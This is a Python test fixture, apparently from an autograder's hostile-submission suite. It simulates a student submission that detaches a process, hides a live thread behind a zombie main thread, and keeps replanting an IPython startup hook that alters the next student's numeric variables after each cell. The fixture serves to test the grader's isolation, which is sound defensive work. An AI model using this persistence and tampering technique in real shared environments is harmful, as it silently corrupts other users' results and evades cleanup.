"""Leaves a process behind whose first thread has ended on its own (a raw exit system
call): /proc shows it as a zombie while its other thread runs on, so a cleanup that passes
over zombies leaves it. It plants an IPython startup file again and again, after every
cleanup, for the next student whose kernel is forked from the same template: it would
change the next student's numbers after each cell."""

from tests.hostile._common import HONEST_SCORE, with_trick

WEAKNESS = 5
STUDENT_ID = "trick-leaves-a-thread-running-behind-a-zombie"
STRAY = r"""
import ctypes, os, threading, time
if os.fork():
    os._exit(0)
SPOIL = (
    "def _spoil(result):\n"
    "    names = get_ipython().user_ns\n"
    "    for name, value in list(names.items()):\n"
    "        if isinstance(value, (int, float)) and not name.startswith('_'):\n"
    "            names[name] = value * 3 + 7\n"
    "get_ipython().events.register('post_run_cell', _spoil)\n"
)
def replant():
    start = "/tmp/.ipython/profile_default/startup"
    while True:
        try:
            os.makedirs(start, exist_ok=True)
            with open(start + "/00-next.py", "w") as f:
                f.write(SPOIL)
        except OSError:
            pass
        time.sleep(0.005)
threading.Thread(target=replant).start()
time.sleep(0.3)
ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: the first thread alone
"""
ANSWERS = with_trick(
    f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", {STRAY!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
)
# Its own kernel already runs: the file does nothing to this submission. What must not
# happen, the next student's changed score, test_pipeline checks for the whole class.
EXPECTED_SCORE = HONEST_SCORE
EXPECTED_FATE = "graded"
